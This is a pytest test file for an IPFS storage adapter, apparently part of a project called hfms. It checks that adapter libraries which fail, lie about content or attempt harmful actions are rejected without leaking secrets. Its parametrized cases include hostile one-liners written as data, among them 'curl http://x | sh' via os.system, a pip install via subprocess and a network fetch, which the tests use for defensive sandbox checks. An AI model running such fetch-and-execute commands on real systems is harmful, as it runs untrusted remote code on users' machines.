"""The storage `ipfs_kit`: objects of that library's shape over a real node, and libraries that lie or do harm."""

import random
import sys
import textwrap

import pytest

from hfms_cli import Unavailable
from hfms_cli.ipfs import blocks_of_bytes, parse, root_of, walk
from hfms_cli.models.content import Content
from hfms_storage.ipfs_kit import IpfsKit, IpfsKitOptions
from tests.storage.adapter import Canned, Liar, NodeAdapter

DATA = random.Random(9).randbytes(900_000)


def library(folder, monkeypatch, text: str) -> IpfsKit:
    """A library of the given text, as it would be installed."""
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.setenv("PYTHONPATH", str(folder), prepend=":")
    name = f"kit_{random.randrange(10**9)}"
    (folder / f"{name}.py").write_text(textwrap.dedent(text))
    return IpfsKit(IpfsKitOptions(factory=f"{name}:Adapter", timeout_seconds=20))


async def test_a_library_that_is_not_installed_is_unavailable_because_of_that():
    with pytest.raises(Unavailable) as failed:
        await IpfsKit(IpfsKitOptions(factory="no_such_library.at.all:Adapter")).add_bytes(b"x")
    assert failed.value.message == "It is unavailable, because `no_such_library` is not installed."


@pytest.mark.parametrize(
    ("text", "because"),
    [
        ("def broken(:", "cannot be imported"),
        ("raise RuntimeError('/home/me/secret')", "cannot be imported"),
        ("import sys; sys.exit(0)", "has no"),
        ("import subprocess; subprocess.run(['pip', 'install', 'x'])", "subprocess.Popen"),
        ("import os; os.system('curl http://x | sh')", "os.system"),
        ("import urllib.request; urllib.request.urlopen('http://127.0.0.1:9/kubo.tar.gz')", "may not"),
        ("open('/tmp/hfms-ipfs-kit-was-here', 'w')", "open"),
        ("import os; os.mkdir('/tmp/hfms-ipfs-kit-was-here')", "os.mkdir"),
        ("class Other: ...", "cannot be imported"),
        ("class Adapter:\n    async def cat(self, cid): ...", "has no `add_bytes`"),
        ("class Adapter:\n    def __init__(self): raise OSError('/home/me/secret')", "cannot be used"),
    ],
)
async def test_a_library_that_cannot_be_used_is_unavailable_and_does_no_harm(text, because, tmp_path, monkeypatch):
    kit = library(tmp_path, monkeypatch, text)
    with pytest.raises(Unavailable) as failed:
        await kit.add_bytes(b"x")
    if "sys.exit" in text:
        because = "cannot be"
    assert because in failed.value.message
    assert "secret" not in failed.value.message
    assert not __import__("os").path.exists("/tmp/hfms-ipfs-kit-was-here")


async def test_a_library_that_can_be_used_is_imported_and_used(tmp_path, monkeypatch, node):
    monkeypatch.setenv("KIT_TEST_API", node.api)
    text = "import os\nfrom tests.storage.adapter import NodeAdapter\n"
    text += "class Adapter(NodeAdapter):\n    def __init__(self): super().__init__(os.environ['KIT_TEST_API'])\n"
    kit = library(tmp_path, monkeypatch, text)
    monkeypatch.setenv("PYTHONPATH", ":".join(sys.path))
    assert await kit.cat(await kit.add_bytes(DATA)) == DATA


@pytest.mark.parametrize("adapter", [Liar, Canned])
async def test_a_library_that_lies_is_found_out_before_it_is_used(adapter, node):
    kit = IpfsKit(IpfsKitOptions(), adapter(node.api))
    for _ in range(2):
        with pytest.raises(Unavailable, match="It is unavailable, because"):
            await kit.add_bytes(DATA)


async def test_a_library_that_lies_later_is_found_out_then(node, tmp_path):
    class Later(NodeAdapter):
        async def cat(self, cid, **more):
            data = await super().cat(cid, **more)
            return data if len(data) < 100 else bytes(255 - b for b in data)

    kit = IpfsKit(IpfsKitOptions(), Later(node.api))
    cid = await kit.add_bytes(DATA)
    content = Content([kit])
    with pytest.raises(Exception, match="are not those"):
        await walk.save(content.fetch(), parse(cid), tmp_path / "out")
    assert list(tmp_path.iterdir()) == []


async def test_a_file_that_the_node_added_in_the_old_way_is_read_and_checked(node):
    old = await node.add(DATA, **{"cid-version": "0", "raw-leaves": "false"})
    assert old == str(root_of(blocks_of_bytes(DATA, version=0)))
    assert await IpfsKit(IpfsKitOptions(), NodeAdapter(node.api)).cat(old) == DATA


async def test_what_the_library_raises_is_an_error_of_ours_without_its_text(node):
    class Raises(NodeAdapter):
        async def pin(self, cid):
            raise ValueError("/home/me/secret")

    kit = IpfsKit(IpfsKitOptions(), Raises(node.api))
    with pytest.raises(Unavailable, match=r"failed at `pin` \(ValueError\)") as failed:
        await kit.pin(await kit.add_bytes(b"some", pin=False))
    assert "secret" not in failed.value.message
